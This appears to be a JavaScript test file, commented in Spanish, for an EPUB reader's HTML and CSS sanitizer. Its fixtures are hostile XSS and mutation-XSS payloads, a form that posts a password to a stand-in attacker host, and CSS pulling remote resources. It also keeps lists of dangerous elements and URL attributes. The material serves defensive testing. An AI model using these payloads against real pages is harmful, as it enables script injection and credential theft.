@@ -0,0 +1,290 @@
+/**
+ * Pruebas del sanitizador con contenido hostil
+ * Responsabilidad única: comprobar que SanitizadorHtml (directamente y a través
+ * de GestorArchivos, con un EPUB montado con esas muestras) no deja pasar
+ * código ejecutable ni, en modo estricto, recursos remotos
+ */
+class PruebasSanitizador {
+    /**
+     * @param {EjecutorPruebas} ejecutor
+     */
+    constructor(ejecutor) {
+        this.ejecutor = ejecutor;
+        this.ELEMENTOS_PELIGROSOS = [
+            'script', 'iframe', 'frame', 'object', 'embed', 'form', 'input', 'button', 'textarea',
+            'select', 'meta', 'link', 'base', 'foreignobject', 'animate', 'set'
+        ];
+        // Los data-recurso-* también cuentan: el visor los convierte en src/href al hidratar
+        this.ATRIBUTOS_URL = [
+            'href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'poster',
+            'data-recurso-src', 'data-recurso-href', 'data-recurso-xlink-href', 'data-recurso-poster'
+        ];
+
+        // Muestras hostiles: el HTML y, opcionalmente, lo que debe conservarse o desaparecer
+        this.FIXTURAS = [
+            {
+                nombre: '<img onerror>',
+                html: '<p><img src="a.png" onerror="alert(1)" alt="x"></p>',
+                conserva: ['<img', 'src="a.png"'],
+                elimina: ['onerror', 'alert']
+            },
+            {
+                nombre: '<iframe>',
+                html: '<p>antes</p><iframe src="https://ataque.example/"><p>dentro</p></iframe><p>después</p>',
+                conserva: ['antes', 'después'],
+                elimina: ['iframe', 'ataque.example']
+            },
+            {
+                nombre: '<form> e <input>',
+                html: '<form action="https://ataque.example/robar"><label>Clave</label><input name="clave" type="password"><button formaction="javascript:alert(1)">Enviar</button></form>',
+                conserva: ['Clave'],
+                elimina: ['<form', '<input', '<button', 'action=', 'ataque.example']
+            },
+            {
+                nombre: 'href javascript:',
+                html: '<a href="javascript:alert(1)">uno</a>',
+                conserva: ['uno'],
+                elimina: ['javascript', 'href']
+            },
+            {
+                nombre: 'href JaVa\\tscript: con tabulador y entidades',
+                html: '<a href="JaVa\tscript:alert(1)">dos</a><a href=" &#106;ava&#x0A;script:alert(1)">tres</a>',
+                conserva: ['dos', 'tres'],
+                elimina: ['script:', 'href']
+            },
+            {
+                nombre: '<meta http-equiv="refresh">',
+                html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>texto</p>',
+                conserva: ['texto'],
+                elimina: ['<meta', 'refresh']
+            },
+            {
+                nombre: 'SVG <a xlink:href="javascript:">',
+                html: '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>',
+                conserva: ['<svg', 'svg</text>'],
+                elimina: ['javascript']
+            },
+            {
+                nombre: 'SVG <a> con <set> que reescribe el href',
+                html: '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>set</text></a></svg>',
+                conserva: ['set</text>'],
+                elimina: ['javascript', '<set']
+            },
+            {
+                nombre: '<svg><style> con marcado dentro',
+                html: '<svg><style><img src="x" onerror="alert(1)"></style></svg>',
+                elimina: ['onerror']
+            },
+            {
+                // El <img> puede quedar como texto de un <style> HTML: lo que importa
+                // es que al volver a parsearlo no aparezca como elemento
+                nombre: '<math><mtext><table><mglyph><style> (mXSS)',
+                html: '<math><mtext><table><mglyph><style><img src="x" onerror="alert(1)"></style></mglyph></table></mtext></math>'
+            },
+            {
+                nombre: '<svg></p><style> con comentario de cierre (mXSS)',
+                html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></a></style></svg>',
+                elimina: ['onerror']
+            },
+            {
+                nombre: '<math> con <annotation-xml> HTML',
+                html: '<math><annotation-xml encoding="text/html"><img src="x" onerror="alert(1)"></annotation-xml><mi>x</mi></math>',
+                conserva: ['<mi>x</mi>'],
+                elimina: ['onerror', 'annotation-xml']
+            },
+            {
+                nombre: 'epub:switch',
+                html: '<epub:switch id="s"><epub:case required-namespace="http://www.w3.org/1998/Math/MathML">' +
+                    '<script>alert(1)</script><p>caso</p></epub:case>' +
+                    '<epub:default><p>por defecto</p></epub:default></epub:switch>',
+                conserva: ['por defecto'],
+                elimina: ['caso', '<script', 'epub:switch']
+            },
+            {
+                nombre: 'style en línea con url remota escapada',
+                html: '<p style="background:\\75rl(https://ataque.example/a.png)">css</p>',
+                conserva: ['css'],
+                elimina: ['ataque.example'],
+                estricto: true
+            }
+        ];
+
+        // CSS hostil en modo estricto: ninguna URL remota ni código debe sobrevivir
+        this.CSS_HOSTIL = [
+            'a{background:url("https://ataque.example/a).png")}',
+            'a{background:\\75rl(https://ataque.example/a.png)}',
+            'a{background:URL( https://ataque.example/a.png )}',
+            'a{background-image:image-set("https://ataque.example/a.png" 1x, "b.png" 2x)}',
+            'a{background-image:-webkit-image-set(url(https://ataque.example/a.png) 1x)}',
+            '@font-face{font-family:F;src:"https://ataque.example/f.woff"}',
+            '@font-face{font-family:F;src:local("F"), url(\'https://ataque.example/f.woff\') format("woff")}',
+            '@import url(https://ataque.example/hoja.css);',
+            '@import "https://ataque.example/hoja.css";',
+            'a{-moz-binding:url(https://ataque.example/x.xml#y)}',
+            'a{behavior:url(https://ataque.example/x.htc)}',
+            'a{background:url(javascript:alert(1))}',
+            'a{background:url("java\\09script:alert(1)")}',
+            'a{background:url(data:text/html,<script>alert(1)</script>)}'
+        ];
+    }
+
+    /**
+     * Registra todas las pruebas en el ejecutor
+     */
+    registrar() {
+        const { ejecutor } = this;
+
+        for (const fixtura of this.FIXTURAS) {
+            ejecutor.prueba(`sanitizar: ${fixtura.nombre}`, () => {
+                const sanitizador = new SanitizadorHtml();
+                sanitizador.establecerModoEstricto(Boolean(fixtura.estricto));
+                this._comprobarFixtura(fixtura, sanitizador.sanitizar(fixtura.html));
+            });
+        }
+
+        for (const css of this.CSS_HOSTIL) {
+            ejecutor.prueba(`sanitizarCss (estricto): ${css}`, () => {
+                const sanitizador = new SanitizadorHtml();
+                sanitizador.establecerModoEstricto(true);
+                const resultado = sanitizador.sanitizarCss(css);
+
+                ejecutor.afirmarNoContiene(resultado, 'ataque.example', 'URL remota en modo estricto');
+                ejecutor.afirmarNoContiene(resultado, /javascript|data:text|<script/i, 'Código en el CSS');
+            });
+        }
+
+        ejecutor.prueba('sanitizarCss conserva el CSS legítimo', () => {
+            const sanitizador = new SanitizadorHtml();
+            sanitizador.establecerModoEstricto(true);
+            const css = '.a\\:b{color:red} p::before{content:"https://no-es-una-url \\201C"} ' +
+                '@font-face{font-family:F;src:url(recurso:r1) format("woff"), local("Arial")} ' +
+                'h1{background:url(img/a.png), url(data:image/png;base64,AAAA)}';
+
+            ejecutor.afirmarIgual(sanitizador.sanitizarCss(css), css, 'CSS modificado');
+        });
+
+        ejecutor.prueba('sanitizarCss fuera del modo estricto permite recursos remotos', () => {
+            const css = 'a{background:url("https://ejemplo.org/a).png")}';
+            ejecutor.afirmarIgual(new SanitizadorHtml().sanitizarCss(css), css, 'CSS modificado');
+        });
+
+        ejecutor.prueba('GestorArchivos sanitiza un EPUB hostil (modo estricto)', async () => {
+            const gestor = new GestorArchivos();
+            gestor.establecerModoEstricto(true);
+
+            const archivo = new File([await this._crearEpubHostil()], 'hostil.epub');
+            const libro = await gestor.cargarArchivo(archivo);
+
+            try {
+                ejecutor.afirmarIgual(libro.capitulos.length, this.FIXTURAS.length, 'Número de capítulos');
+                libro.capitulos.forEach((capitulo, i) =>
+                    this._comprobarFixtura(this.FIXTURAS[i], this._quitarDatosInertes(capitulo.contenidoHtml)));
+
+                ejecutor.afirmarNoContiene(libro.estilos, 'ataque.example', 'URL remota en los estilos');
+                ejecutor.afirmarNoContiene(libro.estilos, /javascript|expression/i, 'Código en los estilos');
+                ejecutor.afirmarContiene(libro.estilos, 'color: green', 'Se perdió el CSS legítimo');
+            } finally {
+                libro.recursos.liberar();
+            }
+        });
+    }
+
+    /**
+     * Comprueba el resultado de sanitizar una fixtura
+     * @private
+     */
+    _comprobarFixtura(fixtura, resultado) {
+        for (const patron of fixtura.conserva || []) {
+            this.ejecutor.afirmarContiene(resultado, patron, 'Se perdió contenido legítimo');
+        }
+        for (const patron of fixtura.elimina || []) {
+            this.ejecutor.afirmarNoContiene(resultado, patron, 'Queda contenido hostil');
+        }
+        this._comprobarInofensivo(resultado);
+    }
+
+    /**
+     * Quita los data-* que el visor nunca convierte en atributos activos (como
+     * data-enlace-roto, que guarda el href original de un enlace sin destino)
+     * @private
+     */
+    _quitarDatosInertes(html) {
+        const plantilla = document.implementation.createHTMLDocument('').createElement('template');
+        plantilla.innerHTML = html;
+
+        for (const elemento of plantilla.content.querySelectorAll('*')) {
+            for (const atributo of Array.from(elemento.attributes)) {
+                if (atributo.name.startsWith('data-') && !atributo.name.startsWith('data-recurso-')) {
+                    elemento.removeAttribute(atributo.name);
+                }
+            }
+        }
+
+        return plantilla.innerHTML;
+    }
+
+    /**
+     * Vuelve a parsear el HTML dos veces (como al insertarlo en el visor y al
+     * reserializarlo) y busca elementos peligrosos, manejadores de eventos y
+     * URLs con esquemas ejecutables
+     * @private
+     */
+    _comprobarInofensivo(html) {
+        const documentoInerte = document.implementation.createHTMLDocument('');
+        let plantilla = documentoInerte.createElement('template');
+        plantilla.innerHTML = html;
+
+        for (let pasada = 0; pasada < 2; pasada++) {
+            for (const elemento of plantilla.content.querySelectorAll('*')) {
+                const nombre = elemento.localName.toLowerCase();
+                this.ejecutor.afirmar(!this.ELEMENTOS_PELIGROSOS.includes(nombre), `Elemento peligroso <${nombre}>`);
+
+                for (const atributo of Array.from(elemento.attributes)) {
+                    const atributoNombre = atributo.name.toLowerCase();
+                    const valor = atributo.value.replace(/[\u0000- \u007f-\u009f]/g, '');
+
+                    this.ejecutor.afirmar(!atributoNombre.startsWith('on'), `Manejador ${atributo.name} en <${nombre}>`);
+                    if (this.ATRIBUTOS_URL.includes(atributoNombre)) {
+                        this.ejecutor.afirmar(!/^(javascript|vbscript|data:text)/i.test(valor),
+                            `URL ejecutable en ${atributo.name}: ${atributo.value}`);
+                    }
+                }
+            }
+
+            const reserializado = plantilla.innerHTML;
+            plantilla = documentoInerte.createElement('template');
+            plantilla.innerHTML = reserializado;
+        }
+    }
+
+    /**
+     * Monta un EPUB con un capítulo por fixtura y una hoja de estilos hostil
+     * @returns {Promise<ArrayBuffer>}
+     * @private
+     */
+    async _crearEpubHostil() {
+        const zip = new JSZip();
+        const items = this.FIXTURAS.map((fixtura, i) => `c${i}`);
+
+        zip.file('mimetype', 'application/epub+zip', { compression: 'STORE' });
+        zip.file('META-INF/container.xml',
+            '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">' +
+            '<rootfiles><rootfile full-path="OEBPS/content.opf" media-type="application/oebps-package+xml"/></rootfiles></container>');
+        zip.file('OEBPS/content.opf',
+            '<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="uid">' +
+            '<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Hostil</dc:title>' +
+            '<dc:identifier id="uid">urn:uuid:00000000-0000-0000-0000-000000000000</dc:identifier><dc:language>es</dc:language></metadata>' +
+            '<manifest><item id="css" href="estilos.css" media-type="text/css"/>' +
+            items.map(id => `<item id="${id}" href="${id}.xhtml" media-type="application/xhtml+xml"/>`).join('') +
+            '</manifest><spine>' + items.map(id => `<itemref idref="${id}"/>`).join('') + '</spine></package>');
+        zip.file('OEBPS/estilos.css', 'p{color: green} ' + this.CSS_HOSTIL.join('\n') + ' a{width:expression(alert(1))}');
+
+        this.FIXTURAS.forEach((fixtura, i) => {
+            zip.file(`OEBPS/c${i}.xhtml`,
+                '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops">' +
+                `<head><link rel="stylesheet" href="estilos.css"/></head><body>${fixtura.html}</body></html>`);
+        });
+
+        return zip.generateAsync({ type: 'arraybuffer' });
+    }
+}